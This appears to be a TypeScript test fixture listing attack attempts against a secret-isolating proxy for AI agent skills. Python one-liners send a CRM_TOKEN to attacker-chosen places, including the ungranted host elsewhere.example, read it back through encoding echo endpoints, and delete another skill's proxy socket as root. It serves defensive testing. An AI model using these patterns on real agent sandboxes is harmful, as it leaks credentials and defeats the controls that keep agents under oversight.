/**
 * The granted secret, used elsewhere than at the host that it is bound to. Without a sandbox the
 * variable contains the value itself, as for most agents.
 */
import { type Attempt, isReceived, printsSecret } from '../row.ts';
import { removes } from './proofs.ts';

const use = { wants: 'the secret at a place of the attacker’s choice', proof: isReceived } as const;
const back = { wants: 'the value of the secret', proof: printsSecret } as const;
const key = `key = os.environ['CRM_TOKEN']`;

// Python that decodes each answer.
const echoes: Readonly<Record<string, string>> = {
  echo: 'body',
  'echo-header': 'body',
  'echo-base64': 'base64.b64decode(body)',
  'echo-base64-shifted': 'base64.b64decode(body)',
  'echo-hex': 'bytes.fromhex(body.decode())',
  'echo-url': '__import__("urllib.parse").parse.unquote(body.decode())',
  'echo-json': 'json.loads(body)',
  'echo-gzip': '__import__("zlib").decompress(body, 47)',
  'echo-parts': 'body',
};

export const secretRows: readonly Attempt[] = [
  {
    ...use,
    name: 'the secret in the path',
    code: `${key}; get('http://api.crm.example/v2/%s/%s' % (token, key))`,
  },
  {
    ...use,
    name: 'the secret in the query',
    code: `${key}; get('http://api.crm.example/v2/%s?key=%s' % (token, key))`,
  },
  {
    ...use,
    name: 'the secret in the body',
    code: `${key}; get('http://api.crm.example/v2/x', method='POST', body=token + key)`,
  },
  {
    ...use,
    name: 'the secret in another header',
    code: `${key}; get('http://api.crm.example/v2/' + token, headers='X-Key: %s\\n' % key)`,
  },
  {
    ...use,
    name: 'the secret in the name of a header',
    code: `${key}; get('http://api.crm.example/v2/' + token, headers='X-%s: a\\n' % key)`,
  },
  {
    ...use,
    name: 'the secret twice in its header',
    code: `${key}; get('http://api.crm.example/v2/' + token, headers='Authorization: Bearer %s%s\\n' % (key, key))`,
  },
  {
    ...use,
    name: 'the secret as another kind of authorization',
    code: `${key}; get('http://api.crm.example/v2/' + token, headers='Authorization: Basic %s\\n' % key)`,
  },
  {
    ...use,
    name: 'the secret in a request to a host that was not granted',
    code: `${key}; get('http://elsewhere.example/v2/' + token, headers='Authorization: Bearer %s\\n' % key)`,
  },
  {
    ...use,
    name: 'the secret in a header for the proxy',
    code: `${key}; get('http://api.crm.example/v2/' + token, headers='Proxy-Authorization: Bearer %s\\n' % key)`,
  },
  ...Object.entries(echoes).map(
    ([path, read]): Attempt => ({
      ...back,
      name: `a host that sends the secret back: ${path}`,
      code: `${key}; body = ask('/v2/${path}', {'Authorization': 'Bearer ' + key}); print(${read})`,
    }),
  ),
  {
    name: 'replace the proxy’s socket',
    wants: 'the requests of other skills, with their secrets',
    proof: removes('other-proxy.sock'),
    as: 'root',
    code: `found = [os.path.join(d, n) for top in ('/proxy', '/run/skillgate', folder) for d, _, names in os.walk(top) for n in names if n.endswith('proxy.sock')]
print(found); os.remove(folder + '/other-proxy.sock' if not found else found[0])`,
  },
];
